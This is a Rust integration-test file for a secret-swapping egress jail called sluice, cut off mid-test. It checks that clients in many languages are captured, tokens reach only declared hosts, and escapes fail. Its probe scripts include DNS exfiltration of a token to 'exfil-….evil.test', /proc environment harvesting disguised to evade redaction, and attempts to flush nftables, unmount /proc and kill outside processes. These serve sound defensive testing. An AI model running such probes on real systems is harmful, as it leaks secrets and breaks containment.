//! `sluice run` in the jail: clients that ignore every proxy variable (and, where they read
//! the system store, every CA variable) are captured all the same; nothing else leaves.
//!
//! Every connection here is to a name sluice resolves or to 127.0.0.0/8: a jail that
//! failed would otherwise send the traffic out for real.

use std::net::UdpSocket;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sluice_integration_tests::{RecordingUpstream, TestPki, sluice_bin};

const TOKEN: &str = "tok-REAL-jail-0123456789";

/// Every variable that points a client at sluice or its CA: removed before the client runs.
const PROXY_AND_CA: &str = "HTTPS_PROXY https_proxy HTTP_PROXY http_proxy ALL_PROXY all_proxy \
     SSL_CERT_FILE SSL_CERT_DIR REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO PIP_CERT \
     CARGO_HTTP_CAINFO AWS_CA_BUNDLE";

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn declaration(dir: &Path) -> PathBuf {
    std::fs::write(dir.join("token"), TOKEN).unwrap();
    let path = dir.join("policy.yaml");
    std::fs::write(
        &path,
        format!(
            "version: 1\nsecrets:\n  api_token:\n    from: {{ file: {}/token }}\n    hosts: [api.test]\n    sinks: [egress]\negress:\n  allow: [other.test]\n  allow_ips: [\"127.0.0.1/32\"]\n",
            dir.display()
        ),
    )
    .unwrap();
    path
}

/// `sluice run` (jailed) of `sh -c SCRIPT`, the test PKI trusted upstream, api.test and
/// other.test pinned to the recording upstream on 127.0.0.1.
fn run_jailed(dir: &Path, ca: &Path, extra: &[&str], script: &str) -> Output {
    Command::new(sluice_bin())
        .args(["run", "--policy"])
        .arg(declaration(dir))
        .arg("--audit-log")
        .arg(dir.join("audit.jsonl"))
        .arg("--upstream-ca")
        .arg(ca)
        .args([
            "--resolve",
            "api.test=127.0.0.1",
            "--resolve",
            "other.test=127.0.0.1",
        ])
        .args(extra)
        .args(["--", "sh", "-c", script])
        .current_dir(dir)
        .output()
        .expect("sluice runs")
}

/// [`run_jailed`] of `script` off the runtime's threads (the test's upstreams run on them);
/// its stdout, once it has exited 0.
async fn jailed_stdout(dir: &Path, ca: &Path, script: &str) -> String {
    let (dir, ca, script) = (dir.to_owned(), ca.to_owned(), script.to_owned());
    let out = tokio::task::spawn_blocking(move || run_jailed(&dir, &ca, &[], &script))
        .await
        .unwrap();
    succeeded(&out)
}

/// The stdout of a run that must have exited 0.
fn succeeded(out: &Output) -> String {
    let stdout = text(&out.stdout);
    assert!(
        out.status.success(),
        "stdout: {stdout}\nstderr: {}",
        text(&out.stderr)
    );
    stdout
}

/// Asserts that each of `lines` is in `stdout`.
fn assert_lines(stdout: &str, lines: &[&str]) {
    for line in lines {
        assert!(stdout.contains(line), "{line:?} not in {stdout}");
    }
}

fn audit(dir: &Path) -> String {
    std::fs::read_to_string(dir.join("audit.jsonl")).unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clients_that_ignore_the_proxy_variables_are_captured_swapped_and_refused() {
    let pki = TestPki::new();
    let upstream =
        RecordingUpstream::start(&pki, &["api.test", "other.test"], &[b"http/1.1"]).await;
    let dir = tempfile::tempdir().unwrap();
    let port = upstream.port();
    // Python's http.client with its default context (the system store, which is the run's
    // inside), and Node's global fetch (which ignores HTTPS_PROXY; Node trusts its own
    // store plus NODE_EXTRA_CA_CERTS, which it reads itself).
    let python = format!(
        r#"import http.client, os
for host in ("api.test", "other.test"):
    c = http.client.HTTPSConnection(host, {port})
    c.request("GET", "/py", headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}})
    r = c.getresponse()
    print(host, r.status, r.getheader("sluice-error"))
"#
    );
    let node = format!(
        r#"(async () => {{
  for (const host of ["api.test", "other.test"]) {{
    const r = await fetch(`https://${{host}}:{port}/node`, {{ headers: {{ authorization: `Bearer ${{process.env.API_TOKEN}}` }} }});
    console.log(host, r.status, r.headers.get("sluice-error"));
  }}
}})().catch((e) => {{ console.log("node failed", e.cause ?? e); process.exit(1); }});"#
    );
    std::fs::write(dir.path().join("client.py"), python).unwrap();
    std::fs::write(dir.path().join("client.js"), node).unwrap();
    let script = format!("unset {PROXY_AND_CA}; python3 client.py && node client.js");
    let stdout = jailed_stdout(dir.path(), &pki.ca_path(), &script).await;
    assert_lines(
        &stdout,
        &[
            "api.test 200 None",
            "other.test 403 placeholder-not-granted",
            "api.test 200 null",
            "other.test 403 placeholder-not-granted",
        ],
    );
    // What the upstream received: the real token, toward api.test only, from both clients.
    let records = upstream.records();
    assert_eq!(records.len(), 2, "{records:?}");
    for record in &records {
        assert_eq!(
            record.headers["authorization"],
            format!("Bearer {TOKEN}").as_str()
        );
    }
    let log = audit(dir.path());
    assert!(log.matches("\"event\":\"swap\"").count() >= 2, "{log}");
    assert!(!log.contains(TOKEN));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_connection_to_a_literal_address_is_named_by_its_tls_server_name() {
    let pki = TestPki::new();
    let upstream =
        RecordingUpstream::start(&pki, &["api.test", "other.test"], &[b"http/1.1"]).await;
    let dir = tempfile::tempdir().unwrap();
    let port = upstream.port();
    // A client that resolved the name itself (an address sluice never handed out) but
    // names the server in its ClientHello: decided on that name, as a CONNECT to it. The
    // address it dialled (127.0.0.2, the jail's own loopback) is never dialled by sluice.
    let python = format!(
        r#"import os, socket, ssl
context = ssl.create_default_context()
for name in ("api.test", "other.test", os.environ["API_TOKEN"].lower() + ".api.test"):
    try:
        raw = socket.create_connection(("127.0.0.2", {port}), timeout=5)
        tls = context.wrap_socket(raw, server_hostname=name)
        tls.sendall(("GET /sni HTTP/1.1\r\nHost: %s:{port}\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (name, os.environ["API_TOKEN"])).encode())
        answer = b""
        while True:
            chunk = tls.recv(65536)
            if not chunk:
                break
            answer += chunk
        print("sni", name[:10], answer.split(b"\r\n")[0].decode())
    except OSError as e:
        print("sni", name[:10], "failed", type(e).__name__)
"#
    );
    std::fs::write(dir.path().join("sni.py"), python).unwrap();
    let script = format!("unset {PROXY_AND_CA}; python3 sni.py");
    let stdout = jailed_stdout(dir.path(), &pki.ca_path(), &script).await;
    assert_lines(
        &stdout,
        &[
            "sni api.test HTTP/1.1 200 OK",
            "sni other.test HTTP/1.1 403 Forbidden",
            // A server name spelling the placeholder goes nowhere.
            "sni sluice_api failed",
        ],
    );
    only_api_test_got_the_token(&upstream);
    let log = audit(dir.path());
    assert!(log.contains("placeholder-not-granted"), "{log}");
    assert!(!log.contains(TOKEN), "{log}");
}

/// The upstream received one request, toward api.test, carrying the real token.
fn only_api_test_got_the_token(upstream: &RecordingUpstream) {
    let records = upstream.records();
    assert_eq!(records.len(), 1, "{records:?}");
    let host = records[0].headers["host"].to_str().unwrap();
    assert!(host.starts_with("api.test:"), "{host}");
    assert_eq!(
        records[0].headers["authorization"],
        format!("Bearer {TOKEN}").as_str()
    );
}

/// A client that reads neither the proxy nor the CA variables, started by the script
/// `prepare` writes (given the run's directory and the upstream's port) with every such
/// variable unset: jailed, its placeholder must be swapped toward api.test (the upstream
/// gets the real token, once) and refused toward other.test. Each client prints
/// `HOST STATUS SLUICE-ERROR`, `none` for no such header.
async fn assert_captured(prepare: impl FnOnce(&Path, u16) -> String) {
    let pki = TestPki::new();
    let upstream =
        RecordingUpstream::start(&pki, &["api.test", "other.test"], &[b"http/1.1"]).await;
    let dir = tempfile::tempdir().unwrap();
    let command = prepare(dir.path(), upstream.port());
    let script = format!("unset {PROXY_AND_CA} JAVA_TOOL_OPTIONS; {command}");
    let stdout = jailed_stdout(dir.path(), &pki.ca_path(), &script).await;
    assert_lines(
        &stdout,
        &[
            "api.test 200 none",
            "other.test 403 placeholder-not-granted",
        ],
    );
    only_api_test_got_the_token(&upstream);
    // The audit log names the swap and the refusal, never the token.
    let log = audit(dir.path());
    assert!(log.contains("placeholder-not-granted"), "{log}");
    assert!(!log.contains(TOKEN), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_jdk_http_client_trusts_the_run_ca_through_cacerts_and_is_captured() {
    // The JDK reads no proxy variable and no CA variable: it trusts its `cacerts`, which
    // the jail makes the run's, and connects directly, which the jail captures.
    assert_captured(|dir, port| {
        let java = format!(
            r#"import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Fetch {{
    public static void main(String[] args) throws Exception {{
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
        for (String host : new String[] {{"api.test", "other.test"}}) {{
            HttpRequest request = HttpRequest.newBuilder(URI.create("https://" + host + ":{port}/jdk"))
                .header("Authorization", "Bearer " + System.getenv("API_TOKEN"))
                .build();
            HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
            System.out.println(host + " " + response.statusCode() + " "
                + response.headers().firstValue("sluice-error").orElse("none"));
        }}
    }}
}}
"#
        );
        std::fs::write(dir.join("Fetch.java"), java).unwrap();
        "java Fetch.java".to_owned()
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_go_client_with_no_proxy_and_the_system_store_is_captured() {
    // Go's own resolver and TLS stack (no libc, no OpenSSL): its lookups reach sluice's
    // DNS through the jail's resolv.conf, its roots are the system bundle the jail replaced.
    let fetch = sluice_integration_tests::launch::go_client("fetch");
    assert_captured(|_, port| format!("{} {port} api.test other.test", fetch.display())).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rubys_net_http_with_no_proxy_and_the_system_store_is_captured() {
    // Net::HTTP with its proxy turned off (`nil`, not the environment) and OpenSSL's
    // default verify paths: the system bundle, which the jail replaced.
    assert_captured(|dir, port| {
        let ruby = format!(
            r##"require "net/http"
require "openssl"
["api.test", "other.test"].each do |host|
  http = Net::HTTP.new(host, {port}, nil)
  http.use_ssl = true
  http.verify_mode = OpenSSL::SSL::VERIFY_PEER
  response = http.request(Net::HTTP::Get.new("/ruby", "Authorization" => "Bearer #{{ENV["API_TOKEN"]}}"))
  puts "#{{host}} #{{response.code}} #{{response["sluice-error"] || "none"}}"
end
"##
        );
        std::fs::write(dir.join("fetch.rb"), ruby).unwrap();
        "ruby fetch.rb".to_owned()
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn monos_http_client_with_no_proxy_is_captured() {
    // .NET's HttpClient as Mono runs it, the proxy turned off: Mono's TLS trusts a hashed
    // directory of its own (`/usr/share/.mono/new-certs/Trust`), which the jail makes the
    // run's.
    assert_captured(|dir, port| {
        let source = format!(
            r#"using System;
using System.Net.Http;
class Fetch {{
    static void Main() {{
        var client = new HttpClient(new HttpClientHandler {{ UseProxy = false }});
        foreach (var host in new[] {{ "api.test", "other.test" }}) {{
            var request = new HttpRequestMessage(HttpMethod.Get, "https://" + host + ":{port}/dotnet");
            request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + Environment.GetEnvironmentVariable("API_TOKEN"));
            var response = client.SendAsync(request).Result;
            var code = response.Headers.Contains("sluice-error") ? string.Join(",", response.Headers.GetValues("sluice-error")) : "none";
            Console.WriteLine(host + " " + (int)response.StatusCode + " " + code);
        }}
    }}
}}
"#
        );
        std::fs::write(dir.join("Fetch.cs"), source).unwrap();
        let compiled = std::process::Command::new("mcs")
            .args(["-r:System.Net.Http", "-out:Fetch.exe", "Fetch.cs"])
            .current_dir(dir)
            .output()
            .expect("mcs (Debian's mono-mcs) runs");
        assert!(compiled.status.success(), "{compiled:?}");
        "mono Fetch.exe".to_owned()
    })
    .await;
}

#[test]
fn a_plain_request_is_named_by_its_host_and_never_swapped() {
    let dir = tempfile::tempdir().unwrap();
    let served = dir.path().join("served");
    std::fs::create_dir(&served).unwrap();
    std::fs::write(served.join("hello.txt"), "plain-body-from-the-host").unwrap();
    // A plain HTTP server on the host's loopback (reached only through sluice's decision).
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut server = Command::new("python3")
        .args(["-m", "http.server", "--bind", "127.0.0.1"])
        .arg(port.to_string())
        .current_dir(&served)
        .stderr(std::fs::File::create(dir.path().join("server.log")).unwrap())
        .spawn()
        .unwrap();
    for _ in 0..100 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let python = format!(
        r#"import os, socket
def get(address, host, path, extra=""):
    s = socket.create_connection((address, {port}), timeout=5)
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s:{port}\r\n%sConnection: close\r\n\r\n" % (path, host, extra)).encode())
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    error = [l for l in head.split(b"\r\n") if l.lower().startswith(b"sluice-error:")]
    return head.split(b"\r\n")[0].decode() + " " + (error[0].decode() if error else body.decode()[:40])
print("named", get("other.test", "other.test", "/hello.txt"))
print("by-host", get("127.0.0.2", "other.test", "/hello.txt"))
print("placeholder", get("api.test", "api.test", "/leak", "Authorization: Bearer %s\r\n" % os.environ["API_TOKEN"]))
print("undeclared", get("127.0.0.2", "evil.test", "/"))
"#
    );
    std::fs::write(dir.path().join("plain.py"), python).unwrap();
    let pki = TestPki::new();
    let out = run_jailed(
        dir.path(),
        &pki.ca_path(),
        &[],
        &format!("unset {PROXY_AND_CA}; python3 plain.py"),
    );
    server.kill().unwrap();
    let _ = server.wait();
    let stdout = succeeded(&out);
    assert_lines(
        &stdout,
        &[
            // (python's http.server answers in HTTP/1.0, passed back as it is.)
            "named HTTP/1.0 200 OK plain-body-from-the-host",
            "by-host HTTP/1.0 200 OK plain-body-from-the-host",
            "placeholder HTTP/1.1 403 Forbidden sluice-error: placeholder-not-granted",
            "undeclared HTTP/1.1 403 Forbidden sluice-error: host-not-allowed",
        ],
    );
    // The refused request never reached the server.
    let log = std::fs::read_to_string(dir.path().join("server.log")).unwrap();
    assert!(!log.contains("/leak"), "{log}");
    assert_eq!(log.matches("GET /hello.txt").count(), 2, "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_else_leaves_the_jail() {
    let pki = TestPki::new();
    let upstream = RecordingUpstream::start(&pki, &["api.test"], &[b"http/1.1"]).await;
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (tcp_port, udp_port) = (upstream.port(), udp.local_addr().unwrap().port());
    // A raw socket to the host's loopback service, a datagram to a host port, a name the
    // declaration does not make reachable, a loopback address sluice never handed out.
    let python = format!(
        r#"import socket
def attempt(what, f):
    try:
        f(); print(what, "reached")
    except OSError as e:
        print(what, "failed", type(e).__name__)
attempt("tcp-host-loopback", lambda: socket.create_connection(("127.0.0.1", {tcp_port}), timeout=3).sendall(b"GET / HTTP/1.0\r\n\r\n"))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"ping", ("127.0.0.1", {udp_port})); print("udp sent")
attempt("dns-undeclared", lambda: socket.getaddrinfo("exfil-{TOKEN}.evil.test", 443))
attempt("dns-declared", lambda: socket.getaddrinfo("api.test", 443))
# A workload looping on a lookup: one deny event per name per window, the queries counted.
for _ in range(25):
    attempt("dns-loop", lambda: socket.getaddrinfo("loop.evil.test", 443))
# A loopback address sluice never handed out: in the clear without a Host, and TLS without a
# server name. Neither names anything; nothing is dialled.
c = socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3)
c.sendall(b"GET / HTTP/1.0\r\n\r\n")
c.settimeout(3)
print("unmapped-plain", c.recv(65536).split(b"\r\n")[0].decode())
import ssl
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    context.wrap_socket(socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3))
    print("unmapped-tls", "reached")
except OSError as e:
    print("unmapped-tls", "closed")
"#
    );
    std::fs::write(dir.path().join("probe.py"), python).unwrap();
    let stdout = jailed_stdout(dir.path(), &pki.ca_path(), "python3 probe.py").await;
    assert_lines(
        &stdout,
        &[
            "tcp-host-loopback failed ConnectionRefusedError",
            "udp sent",
            "dns-undeclared failed gaierror",
            "dns-declared reached",
            "unmapped-plain HTTP/1.0 400 Bad Request",
            "unmapped-tls closed",
        ],
    );
    assert_eq!(
        upstream.connections(),
        0,
        "the host's loopback service was reached"
    );
    let mut buf = [0u8; 16];
    assert!(udp.recv_from(&mut buf).is_err(), "a datagram left the jail");
    let log = audit(dir.path());
    assert!(log.contains("dns-name-not-allowed"), "{log}");
    // The unmapped TLS connection had no name to decide on: a `deny` with its code.
    assert!(
        log.lines()
            .any(|l| l.contains(r#""event":"deny""#) && l.contains(r#""reason":"no-target""#)),
        "{log}"
    );
    // The name asked for held the token: the deny event holds its placeholder.
    assert!(!log.contains(TOKEN), "{log}");
    assert!(log.contains("exfil-SLUICE_API_TOKEN_"), "{log}");
    // Twenty-five lookups (each an A and an AAAA query at least): the first recorded at
    // once, the rest counted into the event written when the resolver stopped.
    let looped: Vec<u64> = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|e| e["event"] == "deny" && e["host"] == "loop.evil.test")
        .map(|e| e["count"].as_u64().unwrap_or(1))
        .collect();
    assert!(
        (1..=3).contains(&looped.len()),
        "one event per window, not one per query: {looped:?}"
    );
    assert!(
        looped.iter().sum::<u64>() >= 25,
        "every query counted: {looped:?}"
    );
}

#[test]
fn where_the_namespaces_cannot_be_made_the_launch_is_refused_naming_no_jail() {
    let dir = tempfile::tempdir().unwrap();
    let policy = declaration(dir.path());
    let marker = dir.path().join("started");
    // A user namespace of the test's own where no further one may be made.
    let attempt = |extra: &str| {
        Command::new("unshare")
            .args(["-r", "sh", "-c"])
            .arg(format!(
                "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" run --policy \"$1\" --audit-log \"$2\" {extra} -- touch \"$3\""
            ))
            .arg(sluice_bin())
            .arg(&policy)
            .arg(dir.path().join("audit.jsonl"))
            .arg(&marker)
            .output()
            .unwrap()
    };
    let out = attempt("");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(stderr.contains("cannot make the jail"), "{stderr}");
    assert!(stderr.contains("--no-jail"), "{stderr}");
    assert!(stderr.contains("user namespaces"), "{stderr}");
    assert!(!marker.exists(), "the command ran outside the jail unasked");
    // Asked for, it runs in the host's network, and says the policy is then advisory.
    let out = attempt("--no-jail");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(marker.exists());
    assert!(stderr.contains("advisory"), "{stderr}");
    // Root there (as in most containers), it says the command can read sluice's memory.
    assert!(stderr.contains("can read sluice's memory"), "{stderr}");
}

/// Each letter one further on (`z` to `a`): what the command prints this way passes the
/// output redaction, so a value it could read would show here.
fn shifted(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'z' => 'a',
            'Z' => 'A',
            'a'..='y' | 'A'..='Y' => char::from(c as u8 + 1),
            c => c,
        })
        .collect()
}

#[test]
fn nothing_of_sluice_is_within_the_commands_reach() {
    const VALUE: &str = "jailed-REAL-value-from-sluices-environment";
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(
        &policy,
        "version: 1\nsecrets:\n  env_token:\n    from: { env: JAIL_TEST_VALUE }\n    hosts: [api.test]\n    sinks: [egress]\n",
    )
    .unwrap();
    // A process of the same user outside the jail, which the command must not reach.
    let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
    let script = r#"
echo "pid=$$ ppid=$PPID"
echo "pids=$(ls /proc | grep -E '^[0-9]+$' | tr '\n' ' ')"
# Every environment and command line in reach, shifted past the output redaction.
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | tr 'A-Za-z' 'B-ZAb-za'
kill -TERM "$0" 2>/dev/null; echo "kill=$?"
umount /proc 2>/dev/null; echo "umount=$?"
nft flush ruleset 2>/dev/null; echo "nft=$?"
ip route del local 0.0.0.0/0 dev lo table local 2>/dev/null; echo "route=$?"
"#;
    let out = Command::new(sluice_bin())
        .args(["run", "--policy"])
        .arg(&policy)
        .arg("--audit-log")
        .arg(dir.path().join("audit.jsonl"))
        .args(["--", "sh", "-c", script])
        .arg(victim.id().to_string())
        .env("JAIL_TEST_VALUE", VALUE)
        .env("JAIL_TEST_PROBE", "probe-in-the-commands-environment")
        .current_dir(dir.path())
        .output()
        .expect("sluice runs");
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    // Root or not, a command in the jail cannot read sluice's memory, and none is said so.
    assert!(!stderr.contains("read sluice's memory"), "{stderr}");
    // Its own PID namespace: it is process 2, under the jail's init, and sees only the
    // jail's few processes.
    assert!(stdout.contains("pid=2 ppid=1\n"), "{stdout}");
    let pids = stdout
        .lines()
        .find_map(|line| line.strip_prefix("pids="))
        .unwrap();
    assert!(
        pids.split_whitespace()
            .all(|pid| pid.parse::<u32>().unwrap() < 16),
        "{pids}"
    );
    // The reading works (the command's own environment shows, shifted) ...
    assert!(
        stdout.contains(&shifted(
            "JAIL_TEST_PROBE=probe-in-the-commands-environment"
        )),
        "{stdout}"
    );
    // ... and nothing of sluice's is there: not the value, not sluice's command line.
    assert!(!stdout.contains(&shifted(VALUE)), "{stdout}");
    assert!(!stdout.contains(VALUE), "{stdout}");
    assert!(!stdout.contains(&shifted("--policy")), "{stdout}");
    assert!(
        stdout.contains(&shifted("JAIL_TEST_VALUE=SLUICE_ENV_TOKEN_")),
        "{stdout}"
    );
    // Root inside, with no power over what is outside, nor over the jail itself.
    for refused in ["kill=", "umount=", "nft=", "route="] {
        let code = stdout
            .lines()
            .find_map(|line| line.strip_prefix(refused))
            .unwrap_or_else(|| panic!("{refused} missing: {stdout}"));
        assert_ne!(code, "0", "{refused}0: {stdout}");
    }
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the command signalled a process outside"
    );
    victim.kill().unwrap();
    let _ = victim.wait();
}

#[test]
fn exit_status_signals_and_leftovers_are_as_outside() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new();
    let ca = pki.ca_path();
    for jail in [&[][..], &["--no-jail"][..]] {
        let out = run_jailed(dir.path(), &ca, jail, "exit 7");
        assert_eq!(out.status.code(), Some(7), "{jail:?} {}", text(&out.stderr));
        let out = run_jailed(dir.path(), &ca, jail, "kill -KILL $$");
        assert_eq!(
            out.status.code(),
            Some(137),
            "{jail:?} {}",
            text(&out.stderr)
        );
        // SIGTERM to sluice reaches the command (a trap here), whose status sluice takes.
        let mut child = Command::new(sluice_bin())
            .args(["run", "--policy"])
            .arg(declaration(dir.path()))
            .arg("--audit-log")
            .arg(dir.path().join("audit.jsonl"))
            .args(jail)
            .args([
                "--",
                "sh",
                "-c",
                "trap 'echo terminated; exit 3' TERM; echo ready; sleep 30 >/dev/null 2>&1 & wait",
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
        assert_eq!(line, "ready\n");
        nix_kill(child.id(), "TERM");
        let status = child.wait().unwrap();
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
        assert_eq!(status.code(), Some(3), "{jail:?} {rest}");
        assert_eq!(rest, "terminated\n");
    }
    // In the jail nothing the command left running outlives it.
    let marker = "sleep 3141";
    let out = run_jailed(dir.path(), &ca, &[], &format!("{marker} & echo started"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let left = Command::new("pgrep").args(["-f", marker]).output().unwrap();
    assert!(
        !left.status.success(),
        "left running: {}",
        text(&left.stdout)
    );
}

/// `kill -SIGNAL PID`, through the system's `kill`.
fn nix_kill(pid: u32, signal: &str) {
    let status = Command::new("kill")
        .arg(format!("-{signal}"))
        .arg(pid.to_string())
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn the_admin_endpoint_is_out_of_the_commands_reach() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(dir.path().join("token"), TOKEN).unwrap();
    // 127.0.0.1 reachable and dialable: only the rule that sluice never dials its own
    // listeners stands between the command and the admin endpoint.
    std::fs::write(
        &policy,
        format!(
            "version: 1\nsecrets:\n  api_token:\n    from: {{ file: {}/token }}\n    hosts: [api.test]\n    sinks: [egress]\negress:\n  allow: [\"127.0.0.1\"]\n  allow_ips: [\"127.0.0.1/32\"]\n",
            dir.path().display()
        ),
    )
    .unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let admin_url = dir.path().join("admin-url");
    let script = format!(
        r#"env | grep -ci admin | sed 's/^/env=/'
curl -s -o /dev/null -w "proxied=%{{http_code}}\n" -m 5 http://127.0.0.1:{port}/healthz
curl -s -o /dev/null -w "direct=%{{http_code}}\n" -m 5 --noproxy '*' http://127.0.0.1:{port}/healthz || true
"#
    );
    let out = Command::new(sluice_bin())
        .args(["run", "--policy"])
        .arg(&policy)
        .arg("--audit-log")
        .arg(dir.path().join("audit.jsonl"))
        .args(["--admin", &format!("127.0.0.1:{port}"), "--admin-url-file"])
        .arg(&admin_url)
        .args(["--", "sh", "-c", &script])
        .current_dir(dir.path())
        .output()
        .expect("sluice runs");
    let stdout = succeeded(&out);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "admin endpoint on http://sluice-admin@127.0.0.1:{port}"
        )),
        "{stderr}"
    );
    let url = std::fs::read_to_string(&admin_url).unwrap();
    assert!(url.starts_with("http://sluice-admin:"), "{url}");
    // Not in the command's environment, not through sluice, not around it.
    assert_lines(&stdout, &["env=0", "proxied=403"]);
    let direct = stdout
        .lines()
        .find_map(|l| l.strip_prefix("direct="))
        .unwrap();
    assert_ne!(direct, "200", "{stdout}");
    assert!(audit(dir.path()).contains("address-blocked"));
}

/// A `sluice run` in the jail whose declaration asks for `ask.test` (`egress.ask`),
/// running the script made for the upstream's port, its admin endpoint, and the upstream.
struct AskedRun {
    _pki: TestPki,
    upstream: RecordingUpstream,
    port: u16,
    run: tokio::task::JoinHandle<std::process::Output>,
    dir: tempfile::TempDir,
    auth: String,
    address: String,
}

impl AskedRun {
    async fn start(script: impl FnOnce(u16) -> String) -> AskedRun {
        let pki = TestPki::new();
        let upstream = RecordingUpstream::start(&pki, &["ask.test"], &[b"http/1.1"]).await;
        let port = upstream.port();
        let script = script(port);
        let dir = tempfile::tempdir().unwrap();
        let policy = dir.path().join("policy.yaml");
        std::fs::write(
            &policy,
            "version: 1\negress:\n  ask: [ask.test]\n  allow_ips: [\"127.0.0.1/32\"]\n",
        )
        .unwrap();
        let (run_dir, ca) = (dir.path().to_owned(), pki.ca_path());
        let run = tokio::task::spawn_blocking(move || {
            Command::new(sluice_bin())
                .args(["run", "--policy"])
                .arg(&policy)
                .arg("--audit-log")
                .arg(run_dir.join("audit.jsonl"))
                .arg("--upstream-ca")
                .arg(ca)
                .args(["--resolve", "ask.test=127.0.0.1", "--", "sh", "-c", &script])
                .current_dir(&run_dir)
                .output()
                .expect("sluice runs")
        });
        // `sluice run` turned the admin endpoint on (egress.ask needs one), its URL here.
        let url_file = dir.path().join("sluice-admin-url");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        let admin = loop {
            if let Ok(url) = std::fs::read_to_string(&url_file) {
                break url.trim().trim_start_matches("http://").to_owned();
            }
            assert!(std::time::Instant::now() < deadline, "no admin-url");
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        };
        let (auth, address) = admin.rsplit_once('@').unwrap();
        AskedRun {
            _pki: pki,
            upstream,
            port,
            run,
            auth: auth.to_owned(),
            address: address.to_owned(),
            dir,
        }
    }

    /// curl with the admin endpoint's credentials, its stdout.
    fn curl(&self, args: &[&str]) -> String {
        let out = Command::new("curl")
            .args(["-s", "-u", &self.auth])
            .args(args)
            .output()
            .unwrap();
        text(&out.stdout)
    }

    /// The uses waiting for a decision.
    fn pending(&self) -> Vec<serde_json::Value> {
        let listing = self.curl(&[&format!("http://{}/v1/approvals", self.address)]);
        let listing: serde_json::Value = serde_json::from_str(&listing).unwrap_or_default();
        listing["pending"].as_array().cloned().unwrap_or_default()
    }

    /// The first use that waits, once one does.
    async fn first_pending(&self) -> serde_json::Value {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        loop {
            if let Some(ask) = self.pending().into_iter().next() {
                return ask;
            }
            assert!(std::time::Instant::now() < deadline, "nothing waited");
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    }
}

/// `egress.ask` in the jail: the resolver answers the asked name, and a client that ignores
/// the proxy variables is captured and held until a decision (here, for the run, made on
/// the admin endpoint `sluice run` turned on for it); the next connection goes through
/// without waiting.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_captured_connection_to_an_asked_host_waits_for_a_decision() {
    let asked = AskedRun::start(|port| format!(
        "unset {PROXY_AND_CA}; for path in first second; do curl -s -o /dev/null -w \"$path %{{http_code}}\\n\" --noproxy '*' https://ask.test:{port}/$path; done"
    ))
    .await;
    let (upstream, port) = (&asked.upstream, asked.port);
    let ask = asked.first_pending().await;
    assert_eq!(ask["kind"], "host", "{ask}");
    assert_eq!(ask["host"], format!("ask.test:{port}"));
    assert!(upstream.records().is_empty(), "reached before a decision");
    asked.curl(&[
        "-X",
        "POST",
        "--data",
        r#"{"decision": "allow", "scope": "run"}"#,
